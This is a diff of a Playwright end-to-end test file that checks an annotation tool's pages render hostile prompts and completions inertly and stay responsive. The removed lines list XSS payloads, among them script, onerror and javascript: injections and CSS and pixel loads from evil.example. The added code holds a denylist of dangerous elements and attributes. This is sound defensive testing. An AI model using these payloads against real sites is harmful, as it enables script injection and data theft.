@@ -1,61 +1,189 @@
-"""Prompts and completions come from models and strangers: they may say anything and do nothing."""
+"""Prompts and completions come from models and strangers: they may say anything and do nothing, on
+every page that shows them, and whatever they are, the page stays quick."""
 
-from playwright.sync_api import expect
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from uuid import uuid4
 
+from playwright.sync_api import Page, expect
+
+from annotation.corpus.models import Prompt
+from annotation.corpus.texts import prompt_hash
+from annotation.labeling.services import create_demonstration_items
 from annotation.projects.models import GuidelineVersion
-from tests.e2e.campaign import add_item, campaign
+from annotation.runs.models import Run, RunEvent
+from tests.e2e.campaign import Campaign, add_item, campaign
 from tests.e2e.conftest import Visit
+from tests.e2e.hostile import hostile_texts
+from tests.e2e.probe import bar_ms, watching
 
-# Each would set window.hit, ask another host, or open something if it worked. `watch` sees requests,
-# dialogs and policy violations; the policy is a second wall and must not be the one that holds.
-ATTACKS = [
-    "<script>window.hit = 'script'</script>",
-    "<img src=x onerror=\"window.hit = 'img'\">",
-    "<svg onload=\"window.hit = 'svg'\"><circle r=9></svg>",
-    "<iframe srcdoc=\"<script>parent.hit = 'iframe'</script>\"></iframe>",
-    "<style>@import url(https://evil.example/steal.css); body { display: none }</style>",
-    "<link rel=stylesheet href=https://evil.example/steal.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<form action=https://evil.example><input autofocus onfocus=\"window.hit='form'\"></form>",
-    "<a href=\"javascript:window.hit='a'\">click</a>",
-    "![pixel](https://evil.example/pixel.png)",
-    "[click me](javascript:window.hit='link')",
-    "[click me](data:text/html,<script>opener.hit='data'</script>)",
-    "<math><mtext><mglyph><style><img src=x onerror=\"window.hit='math'\"></style></mglyph></math>",
-    "```html\n<script>window.hit = 'code'</script>\n```",
-    "| a | b |\n|---|---|\n| <img src=x onerror=\"window.hit='td'\"> | ok |",
-    "\u202e\u2066<b onmouseover=\"window.hit='bidi'\">evil</b>",
-]
+TEXTS = hostile_texts()
+TOGETHER = 9  # as many as a ranking may hold
+PATIENCE_S = 60
+
+# Elements and attributes that no text may bring onto a page.
+_FOREIGN = """() => {
+  const allowed = /^(href|rel|target|referrerpolicy|class|title|start|dir|data-\\w+|tabindex|xmlns|display|lang)$/;
+  const strangers = [];
+  for (const part of document.querySelectorAll("[data-complete]"))
+    for (const element of part.querySelectorAll("*:not(math *)")) {
+      if (/^(script|style|img|svg|iframe|object|embed|form|input|button|link|meta|base|dialog|video|audio)$/
+            .test(element.localName)) strangers.push(element.localName);
+      for (const { name, value } of element.attributes) {
+        if (!allowed.test(name)) strangers.push(`${element.localName} ${name}`);
+        if (name === "href" && !/^(https?|mailto):/.test(value)) strangers.push(value);
+      }
+    }
+  return strangers.slice(0, 9);
+}"""
 
 
-def test_hostile_answers_execute_nothing_and_stay_readable(visit: Visit) -> None:
+def groups_of(size: int) -> list[list[str]]:
+    return [TEXTS[start : start + size] for start in range(0, len(TEXTS), size)]
+
+
+class Surface:
+    """A page that shows hostile texts: waits until all of them stand there, and judges it."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.bar_ms = bar_ms(page)
+        self.worst_ms = 0.0
+
+    def open(self, path: str, *, parts: int) -> None:
+        """Go there until every text stands there."""
+        with self.quick(path):
+            self.page.goto(path)
+            self.settle(parts)
+
+    @contextmanager
+    def quick(self, what: str) -> Iterator[None]:
+        with watching(self.page) as busy:
+            yield
+        self.worst_ms = max(self.worst_ms, busy.worst_ms)
+        assert busy.worst_ms <= self.bar_ms, f"{what} kept the page busy for {busy.worst_ms:.0f} ms"
+
+    def settle(self, parts: int) -> None:
+        done, not_done = (self.page.locator(f"[data-complete={how}]") for how in ("true", "false"))
+        deadline = time.monotonic() + PATIENCE_S
+        while done.count() < parts or not_done.count() > 0:
+            told = f"{done.count()} of {parts} texts stand there, {not_done.count()} do not"
+            assert time.monotonic() < deadline, told
+            self.page.wait_for_timeout(50)
+
+    def check(self) -> None:
+        assert self.page.evaluate("window.hit") is None
+        assert self.page.evaluate(_FOREIGN) == []
+        assert self.page.evaluate("document.getElementById('root').childElementCount") > 0
+        wide = self.page.evaluate("document.documentElement.scrollWidth - innerWidth")
+        assert wide <= 0, f"something sticks out of the page by {wide} px"
+        assert len(self.page.context.pages) == 1
+
+
+def test_hostile_answers_do_nothing_on_the_ranking_screen_and_never_hold_it_up(
+    visit: Visit,
+) -> None:
     work = campaign()
-    GuidelineVersion.objects.create(
-        project=work.project, number=2, text="<img src=x onerror=\"window.hit='guideline'\">"
-    )
-    for start in (0, 8):
-        answers = ATTACKS[start : start + 8]
-        add_item(work, f"{ATTACKS[start]} {start}", answers, priority=10 - start)
-    page = visit(work.cast.labeler, work.label_path)
-    for _ in range(2):
-        expect(page.get_by_role("article")).to_have_count(8)
+    GuidelineVersion.objects.create(project=work.project, number=2, text="\n\n".join(TEXTS[:60]))
+    groups = groups_of(TOGETHER)
+    for number, group in enumerate(groups):
+        add_item(work, f"{number} {group[0]}", group, priority=len(groups) - number)
+    page = visit(work.cast.labeler)
+    surface = Surface(page)
+    for group in groups:
+        surface.open(work.label_path, parts=len(group) + 1)
         for card in page.get_by_role("article").all():
-            card.hover()
-        for link in page.get_by_text("click me").all():
-            link.click(force=True)
-        page.keyboard.press("g")
-        expect(page.get_by_role("dialog")).to_be_visible()
-        page.keyboard.press("Escape")
-        expect(page.get_by_role("dialog")).to_be_hidden()
-        page.keyboard.press("r")  # and as raw text
-        page.wait_for_timeout(100)
+            card.hover(position={"x": 40, "y": 60}, force=True)
+        for link in page.locator("article a:not([href])", has_text="click me").all():
+            link.dispatch_event("click")
+        surface.check()
+        with surface.quick("the raw view"):
+            page.keyboard.press("r")
+            surface.settle(len(group) + 1)
+        surface.check()
         page.keyboard.press("r")
-        assert page.evaluate("window.hit") is None
-        for key in ("1", "1", "1", "1", "1", "1", "1", "1", "Enter"):
-            page.keyboard.press(key)
-    expect(page.get_by_text("Nothing to label right now")).to_be_visible()
-    assert page.evaluate("window.hit") is None
-    assert len(page.context.pages) == 1
+        submit_as_one_tier(page, len(group))
+    print(f"longest task {surface.worst_ms:.0f} ms")
+    surface.open(f"{work.label_path}/history", parts=0)
+    expect(page.get_by_role("listitem").first).to_be_visible()
+    surface.check()
+
+
+def submit_as_one_tier(page: Page, answers: int) -> None:
+    with page.expect_response(lambda response: "/submissions/" in response.url) as sent:
+        for _ in range(answers):
+            page.keyboard.press("1")
+        page.keyboard.press("Enter")
+    assert sent.value.ok
+
+
+def test_hostile_answers_do_nothing_on_the_pages_of_reviewers(visit: Visit) -> None:
+    work = campaign()
+    items = [add_item(work, group[0], group) for group in groups_of(TOGETHER)]
+    surface = Surface(visit(work.cast.reviewer))
+    for item, group in zip(items, groups_of(TOGETHER), strict=True):
+        surface.open(f"/manage/{work.project.pk}/items/{item.pk}", parts=len(group) + 1)
+        surface.check()
+    surface.open(f"/manage/{work.project.pk}/items", parts=0)
+    expect(surface.page.get_by_role("row").nth(2)).to_be_visible()
+    surface.check()
+    print(f"longest task {surface.worst_ms:.0f} ms")
+
+
+def test_hostile_prompts_do_nothing_in_demonstrations_and_lists(visit: Visit) -> None:
+    work = campaign()
+    for group in groups_of(40):
+        messages = [
+            {"role": ("user", "assistant")[turn % 2], "content": text}
+            for turn, text in enumerate(group)
+        ]
+        prompt = Prompt.objects.create(
+            prompt_set=work.prompt_set,
+            messages=[*messages, {"role": "user", "content": "?"}],
+            text_hash=prompt_hash(messages),
+        )
+        create_demonstration_items(project=work.project, prompts=[prompt.pk])
+    for text in TEXTS:
+        add_lone_prompt(work, text)
+    surface = Surface(visit(work.cast.labeler))
+    surface.open(work.label_path, parts=20)
+    surface.check()
+    manager = Surface(visit(work.cast.admin))
+    manager.open(f"/manage/{work.project.pk}/prompts/{work.prompt_set.pk}", parts=0)
+    expect(manager.page.get_by_role("row").nth(2)).to_be_visible()
+    manager.check()
+    manager.open(f"/manage/{work.project.pk}/guidelines", parts=1)
+    manager.check()
+
+
+def test_hostile_reports_and_events_do_nothing_on_the_page_of_a_run(visit: Visit) -> None:
+    work = campaign()
+    run = Run.objects.create(
+        project=work.project,
+        number=1,
+        kind="evaluate",
+        config={},
+        idempotency_key=uuid4(),
+        status="succeeded",
+        report={"samples": [{"prompt": text, "completion": text} for text in TEXTS]},
+    )
+    for text in TEXTS[:90]:
+        RunEvent.objects.create(run=run, type="sample", payload={"text": text, text[:50]: 1})
+    page = visit(work.cast.ml)
+    surface = Surface(page)
+    surface.open(f"/train/{work.project.pk}/runs/{run.pk}", parts=0)
+    expect(page.get_by_role("table").first).to_be_visible()
+    for folded in page.locator("summary").all():
+        folded.click()
+    surface.check()
+
+
+def add_lone_prompt(work: Campaign, text: str) -> None:
+    messages = [{"role": "user", "content": text}]
+    Prompt.objects.create(
+        prompt_set=work.prompt_set, messages=messages, text_hash=prompt_hash(messages)
+    )
 
 
 def test_nothing_of_a_hostile_answer_is_hidden(visit: Visit) -> None:
